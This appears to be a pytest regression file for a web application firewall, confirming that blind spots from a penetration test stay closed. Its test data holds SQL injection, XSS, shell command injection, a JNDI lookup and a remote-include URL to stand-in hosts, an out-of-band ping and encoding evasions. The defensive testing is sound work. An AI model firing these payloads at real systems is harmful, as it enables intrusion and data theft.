"""The six blind spots an external penetration test found in the WAF (issue 17), each closed and kept
closed: every technique reads the whole value, the Host header, names and keys, any nesting depth,
JSON in UTF-16/UTF-32, and multipart parts in base64; the oversize policy covers every body kind."""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from bastion.config.waf import WAFConfig
from bastion.core.context import Context
from bastion.core.request import Headers, Request
from bastion.guards.waf import WAFGuard
from tests.proxy_harness import running_proxy
from tests.servers import ThreadedUvicorn


def request(  # noqa: PLR0913  a request's parts, all keyword arguments with defaults
    path: str = "/api/items",
    query: str = "",
    body: bytes | str | None = None,
    content_type: str | None = None,
    headers: list[tuple[str, str]] | None = None,
    host: str = "api.test",
) -> Request:
    fields = [("host", host), ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0")]
    fields += headers or []
    if content_type:
        fields.append(("content-type", content_type))
    data = body.encode() if isinstance(body, str) else body
    method = "POST" if body is not None else "GET"
    return Request(method=method, path=path, query=query, headers=Headers(fields), client="127.0.0.1", body=data)


@pytest.fixture(scope="module")
def guard() -> WAFGuard:
    return WAFGuard(WAFConfig())


def blocked(guard: WAFGuard, req: Request) -> bool:
    verdict = guard.check(req, Context("waf-blind-0001"))
    return verdict is not None and verdict.status == 403 and verdict.rule != "waf.inspection-limit"


# -- 1. the whole value, up to waf.max_value ------------------------------------------------------

PAYLOADS = ["' OR 1=1--", "' UNION SELECT password FROM users--", "'; DROP TABLE users--", "| id", ";id"]
LEADS = [0, 1, 99, 100, 199, 200, 1000, 5000, 20_000, 32_000]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("lead", LEADS)
def test_every_technique_reads_the_whole_value(guard: WAFGuard, payload: str, lead: int) -> None:
    value = "A" * lead + payload
    assert blocked(guard, request(query="q=" + quote(value)))
    assert blocked(guard, request(body=json.dumps({"q": value}), content_type="application/json"))


@pytest.mark.parametrize("lead", [10, 300, 3000])
def test_injections_after_prose_are_read_like_injections_at_the_start(guard: WAFGuard, lead: int) -> None:
    prose = ("A fine day, is it not? We would like 2 or 3 more; thanks. " * lead)[:30_000]
    for payload in [
        "x' OR '1'='1",
        'x" or "1"="1',
        "' UNION ALL SELECT NULL,password FROM users--",
        "<svg onload=alert(1)>",
    ]:
        assert blocked(guard, request(body=json.dumps({"note": prose + payload}), content_type="application/json"))
    assert not blocked(guard, request(body=json.dumps({"note": prose}), content_type="application/json"))
    # After apostrophes of its own, a value no longer closes the literal where its payload starts;
    # what needs no break-out still reads as an injection.
    apostrophes = ("It's a fine day, isn't it? We'd like 2 or 3 more; thanks. " * lead)[:30_000]
    for payload in ["1 UNION ALL SELECT NULL,password FROM users--", "<svg onload=alert(1)>"]:
        body = json.dumps({"note": apostrophes + payload})
        assert blocked(guard, request(body=body, content_type="application/json"))
    assert not blocked(guard, request(body=json.dumps({"note": apostrophes}), content_type="application/json"))


def test_windows_leave_no_blind_region(guard: WAFGuard) -> None:
    """Harmless tags fill the windows of a long value; the one that runs script sits at the end."""
    harmless = '<a href="https://example.com/x">x</a> ' * 800
    assert not blocked(guard, request(body=json.dumps({"html": harmless}), content_type="application/json"))
    for tail in ["<img src=x onerror=alert(1)>", "${jndi:ldap://x.example/a}", "(system)('id')"]:
        body = json.dumps({"html": harmless + tail})
        assert blocked(guard, request(body=body, content_type="application/json")), tail


# -- 2. the Host header ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "host",
    ["${jndi:ldap://x.example/a}", "x' or 1=1--", "<script>alert(1)</script>", "../../../../etc/passwd", "x;id"],
)
def test_the_host_header_is_inspected(guard: WAFGuard, host: str) -> None:
    assert blocked(guard, request(host=host))


@pytest.mark.parametrize("host", ["api.example.com", "api.example.com:8443", "127.0.0.1:8080", "[::1]:8080"])
def test_an_ordinary_host_passes(guard: WAFGuard, host: str) -> None:
    assert not blocked(guard, request(host=host))


# -- 3. names and keys get every technique ---------------------------------------------------------


@pytest.mark.parametrize("name", ["' or 1=1--", "1' UNION SELECT password FROM users--", "x;cat /etc/passwd"])
def test_names_and_keys_get_every_technique(guard: WAFGuard, name: str) -> None:
    assert blocked(guard, request(body=json.dumps({name: 1}), content_type="application/json"))
    assert blocked(guard, request(body=json.dumps({"a": {"b": {name: "x"}}}), content_type="application/json"))
    assert blocked(guard, request(query=quote(name, safe="") + "=1"))
    assert blocked(guard, request(body=quote(name, safe="") + "=1", content_type="application/x-www-form-urlencoded"))


@pytest.mark.parametrize(
    "name",
    ["/etc/passwd%00.jpg", "http://evil.example/shell.txt%00", ";ca\\t /et\\c/pas\\swd", "\\\\203.0.113.9\\tpl\\x.php"],
)
def test_a_name_gets_the_readings_a_value_gets(guard: WAFGuard, name: str) -> None:
    """The cut at a decoded NUL, and the shell's and the path's readings before backslash escapes
    are decoded (`ca\\t` is `cat` to a shell, not `ca` and a tab; `\\\\host\\tpl\\x.php` is a share's
    script to Windows, not `tpl` after a tab): names are read from what was sent."""
    assert blocked(guard, request(query="q=" + quote(name, safe="")))
    assert blocked(guard, request(query=quote(name, safe="") + "=1"))
    assert blocked(guard, request(body=quote(name, safe="") + "=1", content_type="application/x-www-form-urlencoded"))


@pytest.mark.parametrize("harmless", ["salt; pepper & more ", "b|ls ", "and `pwd` or "])
@pytest.mark.parametrize("payload", ["; cat /etc/passwd", "x||`id`", "| sh", ";ping -c 20 127.0.0.1"])
def test_a_command_after_thousands_of_harmless_chains_is_read(guard: WAFGuard, harmless: str, payload: str) -> None:
    """The command-injection reading looks ahead once after many chains that decide nothing: what
    comes after them is still read (one chain at the end of 30 KB of list punctuation and words)."""
    value = "hello world " + harmless * (30_000 // len(harmless)) + payload
    assert blocked(guard, request(body=json.dumps({"q": value}), content_type="application/json"))


@pytest.mark.parametrize("filler", ["a; ", "true; ", ": && ", "l|", "x; y; z; ", "l && " * 2000])
@pytest.mark.parametrize("command", ["id", "whoami", "uname -a", "ls -la"])
def test_a_command_after_filler_commands_is_still_the_chain_the_value_starts(
    guard: WAFGuard, filler: str, command: str
) -> None:
    """`127.0.0.1; a; whoami` runs `a` (not found) and then whoami: a bogus command between the
    value and the real one used to make the chain read as a list of words ("salt; pepper; more")."""
    value = "127.0.0.1; " + filler + command
    assert blocked(guard, request(body=json.dumps({"q": value}), content_type="application/json"))
    assert blocked(guard, request(query="host=" + quote(value, safe="")))


_PROSE = "we talked about it yesterday and I think the docs are at "


@pytest.mark.parametrize(
    "url",
    [
        "http://127\u30020\u30020\u30021/",  # ideographic full stops
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",  # circled digits
        "http://\uff11\uff12\uff17.0.0.1/",  # full-width digits
        "http:\\\\localhost\\admin",  # backslashes
    ],
)
def test_an_internal_url_written_to_evade_is_no_everyday_mention(guard: WAFGuard, url: str) -> None:
    """A loopback URL mentioned in prose is weak (a README names `http://localhost:3000`); one that
    reads as loopback only once decoded was written to get past, and is not."""
    value = _PROSE + url + " for now"
    assert blocked(guard, request(body=json.dumps({"q": value}), content_type="application/json"))
    assert blocked(guard, request(query="q=" + quote(value, safe="")))


@pytest.mark.parametrize("url", ["http://localhost:8080/admin", "http://[::1]:8080/", "HTTP://LOCALHOST:3000/"])
def test_an_internal_url_typed_in_a_sentence_stays_a_mention(guard: WAFGuard, url: str) -> None:
    value = _PROSE + url + " for now"
    assert not blocked(guard, request(body=json.dumps({"q": value}), content_type="application/json"))
    assert not blocked(guard, request(query="q=" + quote(value, safe="")))


@pytest.mark.parametrize("words", ["salt; pepper; more", "Tom & Jerry; find out", "Languages: python; perl; ruby"])
def test_a_list_of_words_ending_in_a_command_name_is_not_a_chain(guard: WAFGuard, words: str) -> None:
    assert not blocked(guard, request(body=json.dumps({"q": words}), content_type="application/json"))


@pytest.mark.parametrize(
    "decoy", ["a; drop by ", "1; drop b{} ", "x 1; update b{} ", "union b{} ", "f{}(select 1) ", "x '{}'; select x"]
)
@pytest.mark.parametrize("payload", ["1; drop table users", "x' union select password from users", "1 and (select 1)"])
def test_a_statement_after_thousands_of_statement_keywords_is_read(guard: WAFGuard, decoy: str, payload: str) -> None:
    """Every UNION, `; statement` and `(select` of a value is read, not the first 256 of them: past
    them `1; drop table users` went unread. Decoys written alike are read once; different ones are
    judged on the words around them first, and a value of more than 128 that need reading is blocked."""
    value = _decoys(decoy) + payload
    assert blocked(guard, request(body=json.dumps({"q": value}), content_type="application/json"))


@pytest.mark.parametrize("decoy", ["a; drop by ", "x 1; drop b{} ", "union b{} ", "f{}(select 1) ", "the union of {} "])
def test_statement_keywords_that_open_no_statement_pass(guard: WAFGuard, decoy: str) -> None:
    assert not blocked(guard, request(body=json.dumps({"q": _decoys(decoy)}), content_type="application/json"))


def _decoys(decoy: str, size: int = 30_000) -> str:
    """`decoy` numbered 0, 1, 2 ... to `size` characters (within max_value, so all of it is read)."""
    parts: list[str] = []
    total = 0
    while total + len(decoy) + 6 < size:
        parts.append(decoy.format(len(parts)))
        total += len(parts[-1])
    return "".join(parts)


@pytest.mark.parametrize("payload", ["{{ config.items() }}", "${T(java.lang.Runtime).getRuntime().exec('id')}"])
def test_base64_without_padding_is_read_in_names_and_plain_bodies(guard: WAFGuard, payload: str) -> None:
    """A name, a JSON key or a text/plain body may be base64 of a payload like a value may."""
    encoded = base64.b64encode(payload.encode()).decode().rstrip("=")
    assert blocked(guard, request(query=encoded + "=1"))
    assert blocked(guard, request(body=json.dumps({encoded: 1}), content_type="application/json"))
    assert blocked(guard, request(body=encoded + "=1", content_type="application/x-www-form-urlencoded"))
    assert blocked(guard, request(body=encoded, content_type="text/plain"))
    assert not blocked(guard, request(body=base64.b64encode(b"a plain note").decode(), content_type="text/plain"))


# -- 4. any nesting depth --------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1, 31, 32, 33, 40, 100, 500])
@pytest.mark.parametrize("payload", ["' or 1=1--", "<script>alert(1)</script>", "1 UNION SELECT password FROM users"])
def test_inspection_does_not_depend_on_depth(guard: WAFGuard, depth: int, payload: str) -> None:
    document: Any = {"q": payload}
    for _ in range(depth - 1):
        document = {"a": document}
    assert blocked(guard, request(body=json.dumps(document), content_type="application/json"))
    listed: Any = payload
    for _ in range(depth):
        listed = [listed]
    assert blocked(guard, request(body=json.dumps(listed), content_type="application/json"))


def test_a_duplicate_key_hides_nothing(guard: WAFGuard) -> None:
    body = '{"q": "1\' or \'1\'=\'1", "q": "shoes"}'
    assert blocked(guard, request(body=body, content_type="application/json"))


# -- 5. JSON in UTF-16 and UTF-32 ------------------------------------------------------------------

ENCODINGS = ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-16", "utf-32"]


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("media", ["application/json", None])
def test_json_in_utf16_and_utf32_is_decoded_and_inspected(guard: WAFGuard, encoding: str, media: str | None) -> None:
    attack = json.dumps({"q": "1' or '1'='1' --", "n": 1}).encode(encoding)
    assert blocked(guard, request(body=attack, content_type=media))
    ordinary = json.dumps({"q": "red shoes", "note": "it's for my mother's birthday"}).encode(encoding)
    assert not blocked(guard, request(body=ordinary, content_type=media))


def test_a_declared_charset_is_honoured(guard: WAFGuard) -> None:
    attack = json.dumps({"q": "<script>alert(1)</script>"}).encode("utf-16-le")
    assert blocked(guard, request(body=attack, content_type="application/json; charset=utf-16le"))


async def test_utf16_json_is_refused_by_a_waf_only_gateway(upstream: ThreadedUvicorn) -> None:
    attack = json.dumps({"q": "1' UNION SELECT password FROM users--"}).encode("utf-16")
    ordinary = json.dumps({"q": "red shoes"}).encode("utf-16")
    async with running_proxy(upstream.url, waf={"mode": "enforce"}) as proxy, httpx.AsyncClient() as client:
        refused = await client.post(f"{proxy.url}/items", content=attack, headers={"content-type": "application/json"})
        passed = await client.post(f"{proxy.url}/items", content=ordinary, headers={"content-type": "application/json"})
    assert refused.status_code == 403
    assert passed.status_code == 200


# -- 6. multipart parts in base64, and the oversize policy for every body kind ----------------------


def multipart(*parts: tuple[dict[str, str], bytes]) -> bytes:
    out = b""
    for headers, content in parts:
        out += b"--b\r\n" + b"".join(f"{k}: {v}\r\n".encode() for k, v in headers.items()) + b"\r\n" + content + b"\r\n"
    return out + b"--b--\r\n"


@pytest.mark.parametrize("payload", [b"<script>alert(1)</script>", b"1' UNION SELECT password FROM users--"])
@pytest.mark.parametrize("filename", [None, "note.txt"])
def test_base64_multipart_parts_are_decoded(guard: WAFGuard, payload: bytes, filename: str | None) -> None:
    disposition = 'form-data; name="note"' + (f'; filename="{filename}"' if filename else "")
    encoded = base64.encodebytes(payload)  # with line breaks, as MIME writes it
    body = multipart(({"Content-Disposition": disposition, "Content-Transfer-Encoding": "base64"}, encoded))
    assert blocked(guard, request(body=body, content_type="multipart/form-data; boundary=b"))
    plain = multipart(
        ({"Content-Disposition": disposition, "Content-Transfer-Encoding": "base64"}, base64.b64encode(b"hello"))
    )
    assert not blocked(guard, request(body=plain, content_type="multipart/form-data; boundary=b"))


def test_quoted_printable_parts_are_decoded(guard: WAFGuard) -> None:
    body = multipart(
        (
            {"Content-Disposition": 'form-data; name="q"', "Content-Transfer-Encoding": "quoted-printable"},
            b"1=27 or =271=27=3D=271",
        )
    )
    assert blocked(guard, request(body=body, content_type="multipart/form-data; boundary=b"))


def oversized(guard: WAFGuard, req: Request) -> bool:
    verdict = guard.check(req, Context("waf-blind-0002"))
    return verdict is not None and verdict.rule == "waf.inspection-limit"


@pytest.mark.parametrize("media", ["text/plain", "application/octet-stream", "text/csv", None])
def test_text_bodies_past_max_value_get_the_oversize_policy(guard: WAFGuard, media: str | None) -> None:
    assert oversized(guard, request(body="lorem ipsum " * 4000, content_type=media))
    assert not oversized(guard, request(body="lorem ipsum " * 100, content_type=media))


def test_text_parts_past_max_value_get_the_oversize_policy(guard: WAFGuard) -> None:
    text_file = multipart(({"Content-Disposition": 'form-data; name="f"; filename="a.txt"'}, b"lorem ipsum " * 4000))
    assert oversized(guard, request(body=text_file, content_type="multipart/form-data; boundary=b"))
    field = multipart(({"Content-Disposition": 'form-data; name="note"'}, b"lorem ipsum " * 8000))
    assert oversized(guard, request(body=field, content_type="multipart/form-data; boundary=b"))
    image = multipart(({"Content-Disposition": 'form-data; name="f"; filename="a.png"'}, b"\x89PNG\x00\x01" * 20_000))
    assert not oversized(guard, request(body=image, content_type="multipart/form-data; boundary=b"))
    prefix = WAFGuard(WAFConfig(oversize="inspect_prefix"))
    assert not oversized(prefix, request(body=text_file, content_type="multipart/form-data; boundary=b"))


@pytest.mark.parametrize("lead", [1, 30])
def test_a_command_after_prose_is_read_whatever_the_prose(guard: WAFGuard, lead: int) -> None:
    # a shell fails on the prose line by line and runs the command after it (seventeenth unseen set)
    prose = "The tram stop is two minutes away, which made getting around very easy. " * lead
    for payload in ["\n\nid", "\n\n; ping -c 1 6jj6b3xydseo.oast.online", "\nwhoami"]:
        body = json.dumps({"review": prose + payload})
        assert blocked(guard, request(body=body, content_type="application/json")), payload
    for ordinary in ["\n\nPlease use the id on the booking.", "\n\nP.S. the oast.online docs; nslookup helped"]:
        body = json.dumps({"review": prose + ordinary})
        assert not blocked(guard, request(body=body, content_type="application/json")), ordinary
